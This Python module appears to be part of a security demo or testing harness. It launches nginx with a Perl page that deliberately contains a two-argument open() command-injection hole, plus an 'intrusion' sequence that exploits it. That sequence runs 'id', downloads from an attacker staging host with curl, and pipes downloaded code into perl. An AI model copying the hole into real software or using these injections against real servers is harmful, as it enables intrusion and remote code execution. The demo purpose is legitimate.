"""nginx with a small dynamic page that has a classic hole."""

import contextlib
import http.client
import random
import signal
import threading
import time
import urllib.parse
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from functools import partial
from pathlib import Path

from baseline.demo.attacker import attacker
from baseline.demo.service import Service, Step

_CONFIGURATION = """
load_module /usr/lib/nginx/modules/ngx_http_perl_module.so;
daemon off;
worker_processes 2;
pid {folder}/nginx.pid;
error_log {folder}/error.log;
events {{ worker_connections 256; }}
http {{
    access_log {folder}/access.log;
    client_body_temp_path {folder}/body;
    perl_modules {folder};
    perl_require pages.pm;
    server {{
        listen {address}:{port};
        root {folder}/www;
        location /page {{ perl pages::show; }}
    }}
}}
"""

# The hole: open() with two arguments runs what ends in a bar as a command (perldoc -f open).
_PAGES = r"""
package pages;
use nginx;
sub show {
    my $request = shift;
    my $name = $request->variable("arg_name");
    $name =~ s/%([0-9a-fA-F]{2})/chr hex $1/ge;
    open(PAGE, "FOLDER/www/$name") or return HTTP_NOT_FOUND;
    local $/;
    my $page = <PAGE>;
    close PAGE;
    $request->send_http_header("text/html");
    $request->print($page);
    return OK;
}
1;
"""

_PAUSE = 0.004
"""Seconds between requests of one client."""


class Nginx(Service):
    """nginx, two workers, static files and a page in Perl."""

    name = "nginx"
    packages = "nginx-light libnginx-mod-http-perl curl"
    ended_by = signal.SIGQUIT  # as its systemd unit does

    def prepare(self) -> None:
        """Write its configuration and pages."""
        pages = self.folder / "www"
        pages.mkdir()
        for name, size in (("index.html", 600), ("about.html", 3_000), ("photo.jpg", 200_000)):
            (pages / name).write_bytes(b"x" * size)
        (self.folder / "pages.pm").write_text(_PAGES.replace("FOLDER", str(self.folder)))
        self.configuration = self.folder / "nginx.conf"
        self.configuration.write_text(
            _CONFIGURATION.format(folder=self.folder, address=self.address, port=self.port)
        )
        _open_to_workers(self.folder)

    def launch(self) -> None:
        """Start it and return when it answers."""
        self.process = self.cgroup.start(["/usr/sbin/nginx", "-c", self.configuration])
        self.await_port()

    def work(self, stop: threading.Event) -> None:
        """Two clients: one keeps its connection, one makes a new one for each request."""
        keeping = threading.Thread(target=self._client, args=(stop, True))
        keeping.start()
        self._client(stop, False)
        keeping.join()

    def _client(self, stop: threading.Event, keeps_connection: bool) -> None:
        choose = random.Random(keeps_connection)  # noqa: S311 - not for secrets
        paths = ["/", "/about.html", "/photo.jpg", "/page?name=about.html", "/missing"]
        connection: http.client.HTTPConnection | None = None
        while not stop.is_set():
            connection = connection or http.client.HTTPConnection(
                self.address, self.port, timeout=5
            )
            try:
                method = choose.choices(["GET", "HEAD"], [9, 1])[0]
                connection.request(method, choose.choices(paths, [5, 3, 1, 3, 1])[0])
                connection.getresponse().read()
            except (OSError, http.client.HTTPException):
                keep = False
            else:
                keep = keeps_connection
            if not keep:
                connection.close()
                connection = None
            time.sleep(_PAUSE * choose.expovariate(1))

    def _connection(self, timeout: float) -> http.client.HTTPConnection:
        return http.client.HTTPConnection(self.address, self.port, timeout=timeout)

    @contextmanager
    def intrusion(self) -> Iterator[Sequence[Step]]:
        """Through the hole in the page: a shell, a download, a program run from memory."""
        with attacker() as stage:
            yield [
                Step("asks the page to run a shell command", partial(self.exploit, "id")),
                Step(
                    f"downloads a tool from {stage}",
                    partial(self.exploit, f"curl -s -o /dev/null {stage}"),
                ),
                Step(
                    "runs a program from memory that is in no file",
                    partial(self.exploit, f"curl -s {stage} | perl"),
                ),
            ]

    def exploit(self, command: str) -> bytes:
        """Have the page run a shell command; returns the page and what the command printed."""
        return self.page(f"about.html;{command}|")

    def page(self, name: str) -> bytes:
        """Ask for the dynamic page of this name."""
        with contextlib.closing(self._connection(10)) as connection:
            connection.request("GET", f"/page?name={urllib.parse.quote(name, safe='')}")
            return connection.getresponse().read()


def _open_to_workers(folder: Path) -> None:
    """Let nginx's unprivileged workers read the folder, and traverse those above it."""
    for path in [folder, *folder.rglob("*")]:
        path.chmod(0o755)
